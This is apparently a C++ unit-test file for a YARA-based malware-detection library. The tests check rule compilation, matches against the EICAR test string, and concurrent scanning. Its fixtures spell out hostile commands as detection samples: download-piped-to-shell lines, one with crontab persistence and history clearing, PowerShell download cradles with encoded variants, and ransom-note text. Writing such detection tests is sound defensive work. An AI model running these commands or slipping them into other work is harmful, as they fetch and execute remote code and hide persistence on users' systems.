#include <athena/rules.hpp>

#include <doctest/doctest.h>

#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace fs = std::filesystem;

namespace {

class ScratchDir {
public:
    ScratchDir() {
        std::random_device seed;
        m_path = fs::temp_directory_path() /
                 ("athena-test-rules-" + std::to_string(seed()) + std::to_string(seed()));
        fs::create_directories(m_path);
    }
    ~ScratchDir() {
        std::error_code ignored;
        fs::remove_all(m_path, ignored);
    }
    ScratchDir(const ScratchDir&) = delete;
    ScratchDir& operator=(const ScratchDir&) = delete;

    fs::path write(const std::string& name, const std::string& content) const {
        fs::path path = m_path / name;
        fs::create_directories(path.parent_path());
        std::ofstream(path, std::ios::binary) << content;
        return path;
    }

    const fs::path& path() const { return m_path; }

private:
    fs::path m_path;
};

// The EICAR test string, assembled at run time so that this source file is not itself
// detected by scanners.
std::string eicar() {
    std::string text = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
    text += "EICAR-STANDARD-ANTIVIRUS";
    text += "-TEST-FILE!$H+H*";
    return text;
}

std::span<const std::uint8_t> bytes_of(const std::string& text) {
    return {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()};
}

std::shared_ptr<athena::RuleSet> bundled_rules() {
    auto rules = athena::RuleSet::compile({fs::path(ATHENA_RULES_DIR)});
    REQUIRE_MESSAGE(rules.has_value(), rules.error().message);
    return *rules;
}

std::vector<std::string> matched_rules(const athena::RuleSet& rules, const std::string& text) {
    auto matches = rules.scan_memory(bytes_of(text));
    REQUIRE(matches.has_value());
    std::vector<std::string> names;
    for (const athena::YaraMatch& match : *matches) {
        names.push_back(match.rule);
    }
    return names;
}

bool contains(const std::vector<std::string>& values, const std::string& value) {
    return std::ranges::find(values, value) != values.end();
}

// A 64-bit ELF header followed by size_bytes of filler from make_byte.
template <typename MakeByte>
std::string elf_file(std::size_t size_bytes, MakeByte make_byte) {
    std::string content = "\x7f"
                          "ELF\x02\x01\x01";
    content.resize(64, '\0');
    while (content.size() < size_bytes) {
        content.push_back(static_cast<char>(make_byte()));
    }
    return content;
}

} // namespace

TEST_CASE("RuleSet: compile errors") {
    ScratchDir dir;

    SUBCASE("a syntax error names the file and line") {
        fs::path path =
            dir.write("broken.yar", "rule ok_rule { condition: true }\n"
                                    "\n"
                                    "rule broken { strings: $a = \"x\" condition: $a and }\n");

        auto rules = athena::RuleSet::compile({path});

        REQUIRE_FALSE(rules.has_value());
        CHECK(rules.error().kind == "rules");
        CHECK(rules.error().message.find(path.string() + ":3:") != std::string::npos);
    }

    SUBCASE("a missing path is a rules error") {
        auto rules = athena::RuleSet::compile({dir.path() / "nope.yar"});

        REQUIRE_FALSE(rules.has_value());
        CHECK(rules.error().kind == "rules");
        CHECK(rules.error().message.find("nope.yar") != std::string::npos);
    }

    SUBCASE("a folder without rule files is a rules error") {
        dir.write("sub/readme.txt", "no rules here");

        auto rules = athena::RuleSet::compile({dir.path() / "sub"});

        REQUIRE_FALSE(rules.has_value());
        CHECK(rules.error().kind == "rules");
    }
}

TEST_CASE("RuleSet: bundled rules") {
    auto rules = bundled_rules();

    SUBCASE("the rule set has rules and a SHA-256 content hash") {
        CHECK(rules->rule_count() >= 5);
        CHECK(rules->content_hash().size() == 64);
        CHECK(rules->content_hash().find_first_not_of("0123456789abcdef") == std::string::npos);
    }

    SUBCASE("the EICAR test file matches with its meta") {
        auto matches = rules->scan_memory(bytes_of(eicar() + "\r\n"));

        REQUIRE(matches.has_value());
        REQUIRE(matches->size() == 1);
        const athena::YaraMatch& match = matches->front();
        CHECK(match.rule == "eicar_test_file");
        CHECK(match.ns == "eicar");
        CHECK(match.severity == "malicious");
        CHECK(match.malware_family == "EICAR-Test-File");
        CHECK(match.malware_type == "test-file");
        CHECK_FALSE(match.description.empty());
    }

    SUBCASE("EICAR inside a larger file does not match") {
        std::string padded = "prefix " + eicar() + std::string(200, ' ');

        CHECK_FALSE(contains(matched_rules(*rules, padded), "eicar_test_file"));
    }

    SUBCASE("benign text matches nothing") {
        std::string text = "Release notes\n\nThis version fixes a crash when the disk is full.\n"
                           "Run ./configure && make to build it.\n";

        CHECK(matched_rules(*rules, text).empty());
    }

    SUBCASE("the rule files do not match themselves") {
        for (const auto& entry : fs::directory_iterator(ATHENA_RULES_DIR)) {
            auto matches = rules->scan_file(entry.path());
            REQUIRE(matches.has_value());
            CHECK_MESSAGE(matches->empty(), entry.path().string());
        }
    }
}

TEST_CASE("RuleSet: bundled rule behaviour") {
    auto rules = bundled_rules();

    SUBCASE("a download piped into a shell is suspicious") {
        std::string script = "#!/bin/sh\ncurl -fsSL https://get.example.com/i.sh | sudo bash\n";

        auto names = matched_rules(*rules, script);

        CHECK(contains(names, "download_pipe_to_shell"));
        CHECK_FALSE(contains(names, "download_pipe_to_shell_hidden"));
    }

    SUBCASE("a download piped into a shell with hiding and persistence is malicious") {
        std::string script = "#!/bin/sh\n"
                             "wget -qO- http://198.51.100.4/m | sh\n"
                             "(crontab -l; echo '* * * * * /tmp/.m') | crontab -\n"
                             "history -c\n";

        CHECK(contains(matched_rules(*rules, script), "download_pipe_to_shell_hidden"));
    }

    SUBCASE("a PowerShell WebClient cradle matches") {
        std::string script =
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')";

        CHECK(contains(matched_rules(*rules, script), "download_pipe_to_shell"));
    }

    SUBCASE("an encoded PowerShell command is suspicious") {
        std::string command = "powershell.exe -NoProfile -WindowStyle Hidden -enc "
                              "JABzAD0AJwBoAGUAbABsAG8AJwA7ACAAJABzAA==";

        auto names = matched_rules(*rules, command);

        CHECK(contains(names, "powershell_encoded_command"));
        CHECK_FALSE(contains(names, "powershell_encoded_downloader"));
    }

    SUBCASE("an encoded PowerShell downloader is malicious") {
        // base64 of the UTF-16LE text "IEX (New-Object Net.WebClient).DownloadString('x')"
        std::string command =
            "powershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAG"
            "UAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAHgAJwApAA==";

        CHECK(contains(matched_rules(*rules, command), "powershell_encoded_downloader"));
    }

    SUBCASE("a ransom note with payment and decryption phrases is malicious") {
        std::string note = std::string("All of your files ") + "have been encrypted!\n" +
                           "To get the decryption " + "key, send 0.5 " + "bitcoin to the " +
                           "wallet below.\nDownload Tor " + "Browser to contact us.\n";

        auto names = matched_rules(*rules, note);

        CHECK(contains(names, "ransom_note_phrasing"));
        CHECK_FALSE(contains(names, "ransom_note_claim"));
    }

    SUBCASE("the encryption claim with one note phrase is only suspicious") {
        std::string text = std::string("Your documents ") + "are encrypted. Use the " +
                           "decryption " + "tool from IT.\n";

        auto names = matched_rules(*rules, text);

        CHECK(contains(names, "ransom_note_claim"));
        CHECK_FALSE(contains(names, "ransom_note_phrasing"));
    }

    SUBCASE("an ELF file with a random body is packed") {
        std::mt19937 random(42);
        std::string packed = elf_file(128 * 1024, [&] { return random(); });
        std::string plain = elf_file(128 * 1024, [n = 0]() mutable { return n++ % 16; });

        CHECK(contains(matched_rules(*rules, packed), "packed_executable_high_entropy"));
        CHECK_FALSE(contains(matched_rules(*rules, plain), "packed_executable_high_entropy"));
    }
}

TEST_CASE("RuleSet: scanning") {
    ScratchDir dir;
    auto rules = bundled_rules();

    SUBCASE("scan_file finds what scan_memory finds") {
        fs::path path = dir.write("eicar.com", eicar());

        auto matches = rules->scan_file(path);

        REQUIRE(matches.has_value());
        REQUIRE(matches->size() == 1);
        CHECK(matches->front().rule == "eicar_test_file");
    }

    SUBCASE("scan_file on a missing file is an io error") {
        auto matches = rules->scan_file(dir.path() / "missing");

        REQUIRE_FALSE(matches.has_value());
        CHECK(matches.error().kind == "io");
    }

    SUBCASE("an empty buffer scans without matches") {
        auto matches = rules->scan_memory({});

        REQUIRE(matches.has_value());
        CHECK(matches->empty());
    }

    SUBCASE("many threads share one rule set") {
        std::string sample = eicar();
        std::atomic<int> match_count = 0;
        std::vector<std::thread> threads;
        for (int t = 0; t < 8; ++t) {
            threads.emplace_back([&] {
                for (int i = 0; i < 50; ++i) {
                    auto matches = rules->scan_memory(bytes_of(sample));
                    if (matches && matches->size() == 1) {
                        ++match_count;
                    }
                }
            });
        }
        for (std::thread& thread : threads) {
            thread.join();
        }

        CHECK(match_count == 400);
    }
}

TEST_CASE("RuleSet: content hash") {
    ScratchDir dir;
    fs::path path = dir.write("rules/one.yar", "rule one { condition: true }\n");

    auto first = athena::RuleSet::compile({dir.path() / "rules"});
    auto again = athena::RuleSet::compile({dir.path() / "rules"});
    dir.write("rules/one.yar", "rule one { condition: false }\n");
    auto changed = athena::RuleSet::compile({dir.path() / "rules"});

    REQUIRE(first.has_value());
    REQUIRE(again.has_value());
    REQUIRE(changed.has_value());
    CHECK((*first)->content_hash() == (*again)->content_hash());
    CHECK((*first)->content_hash() != (*changed)->content_hash());
    CHECK((*changed)->rule_count() == 1);
}

TEST_CASE("bundled_rules_dir: environment override") {
    const char* saved = std::getenv("ATHENA_RULES_DIR");
    std::string saved_value = saved != nullptr ? saved : "";

    setenv("ATHENA_RULES_DIR", "/opt/custom-rules", 1);
    fs::path overridden = athena::bundled_rules_dir();
    unsetenv("ATHENA_RULES_DIR");
    fs::path fallback = athena::bundled_rules_dir();
    if (saved != nullptr) {
        setenv("ATHENA_RULES_DIR", saved_value.c_str(), 1);
    }

    CHECK(overridden == "/opt/custom-rules");
    CHECK(fs::is_directory(fallback));
}
